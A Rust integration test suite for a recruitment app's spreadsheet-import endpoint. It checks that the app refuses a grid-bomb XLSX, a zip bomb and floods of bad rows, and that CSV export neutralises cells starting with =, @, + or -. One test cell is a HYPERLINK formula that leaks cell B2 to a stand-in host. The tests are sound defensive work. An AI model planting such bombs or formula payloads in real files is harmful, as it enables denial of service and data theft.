//! Hostile spreadsheets through the real import endpoint: a sheet declaring the last cell of
//! Excel's grid, an archive that inflates past its bound, a file of very many bad rows, and
//! CSV exports whose cells a spreadsheet would run as formulas.

mod common;

use app::accounts::types::Role;
use common::{count, refusal, refused, Reply, TestApp};
use http::StatusCode;
use sqlx::PgPool;

const HEADER: &str = "code,title,unit_code,unit_name,quota,min_degree,majors,other_conditions,stage2_format,written_weight,max_score";

/// An app with the rule sets installed, a signed-in HR officer and a draft round.
async fn setup(pool: &PgPool) -> (TestApp, String, String) {
    app::rounds::repo::ensure_builtin_rule_sets(pool)
        .await
        .unwrap();
    let app = TestApp::new(pool.clone());
    let hr = app
        .session_with_role("ns@example.vn", Role::HrOfficer)
        .await;
    let round = create_round(&app, &hr).await;
    (app, hr, round)
}

async fn create_round(app: &TestApp, hr: &str) -> String {
    let rule_set: uuid::Uuid =
        sqlx::query_scalar("select id from rule_sets where code = 'ND170-2025' and version = 1")
            .fetch_one(&app.pool)
            .await
            .unwrap();
    let reply = app
        .post(
            "/api/hr/create_round",
            &[
                ("name", "Kỳ thi tuyển công chức thử nghiệm"),
                ("authority", "UBND tỉnh Nghệ An"),
                ("notice", "Thông báo tuyển dụng."),
                ("opens_at", "2020-01-01T08:00"),
                ("closes_at", "2099-12-31T17:00"),
                ("rule_set_id", &rule_set.to_string()),
            ],
            Some(hr),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let location = reply.headers["location"].to_str().unwrap();
    location.strip_prefix("/hr/rounds/").unwrap().to_string()
}

async fn import_file(app: &TestApp, hr: &str, round: &str, file: (&str, &[u8])) -> Reply {
    app.post_multipart(
        "/api/hr/import_positions",
        &[("round_id", round), ("reason", "")],
        file,
        Some(hr),
    )
    .await
}

async fn still_healthy(app: &TestApp) {
    let health = app.get("/healthz", None).await;
    assert_eq!(health.status, StatusCode::OK, "{}", health.body);
}

#[sqlx::test(migrations = "../migrations")]
async fn a_sheet_declaring_the_last_cell_of_the_grid_is_refused(pool: PgPool) {
    let (app, hr, round) = setup(&pool).await;
    // Two cells, A1 and XFD1048576: read as a dense grid, 17 billion cells.
    let bomb = common::hostile::xlsx_with_the_last_cell();
    assert!(bomb.len() < 10_000, "{} bytes", bomb.len());

    let reply = import_file(&app, &hr, &round, ("vi-tri.xlsx", &bomb)).await;
    assert_eq!(
        refusal(&reply),
        refused("file", "ErrImportTooManyRows"),
        "{}",
        reply.body
    );
    still_healthy(&app).await;

    // The same two cells one column past the limit, in the first row.
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.write_string(0, 0, "code").unwrap();
    sheet.write_string(0, 16_383, "x").unwrap();
    let wide = workbook.save_to_buffer().unwrap();
    let reply = import_file(&app, &hr, &round, ("vi-tri.xlsx", &wide)).await;
    assert_eq!(refusal(&reply), refused("file", "ErrImportTooManyColumns"));
    assert_eq!(count(&pool, "positions").await, 0);
}

#[sqlx::test(migrations = "../migrations")]
async fn an_archive_inflating_past_its_bound_is_refused(pool: PgPool) {
    let (app, hr, round) = setup(&pool).await;
    // 65 MB of one repeated cell, compressed to well under the 5 MB upload limit.
    let bomb = common::hostile::xlsx_inflating_to(65);
    assert!(bomb.len() < 5 * 1024 * 1024, "{} bytes", bomb.len());

    let reply = import_file(&app, &hr, &round, ("vi-tri.xlsx", &bomb)).await;
    assert_eq!(
        refusal(&reply),
        refused("file", "ErrImportTooLarge"),
        "{}",
        reply.body
    );
    still_healthy(&app).await;
}

#[sqlx::test(migrations = "../migrations")]
async fn many_bad_rows_report_the_first_hundred_problems_and_the_count(pool: PgPool) {
    let (app, hr, round) = setup(&pool).await;
    // 100,000 rows with three bad cells each (code, unit code, quota): 300,000 problems.
    let mut csv = format!("{HEADER}\n");
    for _ in 0..100_000 {
        csv.push_str("?,T,?,U,x,bachelor,,,written,,100\n");
    }
    let started = std::time::Instant::now();
    let reply = import_file(&app, &hr, &round, ("vi-tri.csv", csv.as_bytes())).await;
    assert_eq!(
        reply.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        reply.status
    );
    assert!(reply.body.len() < 20_000, "{} bytes", reply.body.len());
    let body = reply.json();
    let problems = body["Import"]["problems"].as_array().unwrap();
    assert_eq!(problems.len(), 100);
    assert_eq!(body["Import"]["total"], 300_000);
    assert_eq!(problems[0]["row"], 2);
    assert_eq!(problems[99]["row"], 35, "three problems a row, in order");
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
    assert_eq!(count(&pool, "positions").await, 0);

    // More rows than a table may have: refused before any row is parsed.
    let mut tall = format!("{HEADER}\n");
    tall.push_str(&"?\n".repeat(200_000));
    let reply = import_file(&app, &hr, &round, ("vi-tri.csv", tall.as_bytes())).await;
    assert_eq!(refusal(&reply), refused("file", "ErrImportTooManyRows"));
    still_healthy(&app).await;
}

#[sqlx::test(migrations = "../migrations")]
async fn a_position_export_guards_formulas_and_imports_back_the_same(pool: PgPool) {
    let (app, hr, round) = setup(&pool).await;
    let csv = format!(
        "{HEADER}\n\
         TC-01,\"=HYPERLINK(\"\"http://x.example/\"\"&B2,\"\"Xem\"\")\",STC,Sở Tài chính,3,bachelor,Kế toán,- Có chứng chỉ tin học,written,,100\n\
         TC-02,@SUM(A1),STC,Sở Tài chính,1,bachelor,,+84 là mã vùng,interview,,100\n"
    );
    let reply = import_file(&app, &hr, &round, ("vi-tri.csv", csv.as_bytes())).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);

    let export = app
        .get(&format!("/hr/rounds/{round}/export/csv"), Some(&hr))
        .await;
    assert_eq!(export.status, StatusCode::OK);
    assert!(
        export
            .body
            .contains("TC-01,\"'=HYPERLINK(\"\"http://x.example/\"\"&B2,\"\"Xem\"\")\""),
        "{}",
        export.body
    );
    assert!(export.body.contains(",'- Có chứng chỉ tin học,"));
    assert!(export.body.contains("TC-02,'@SUM(A1),"));
    assert!(export.body.contains(",'+84 là mã vùng,"));

    let other = create_round(&app, &hr).await;
    let reply = import_file(&app, &hr, &other, ("export.csv", export.body.as_bytes())).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let again = app
        .get(&format!("/hr/rounds/{other}/export/csv"), Some(&hr))
        .await;
    assert_eq!(
        again.body, export.body,
        "the same positions, written the same"
    );
}
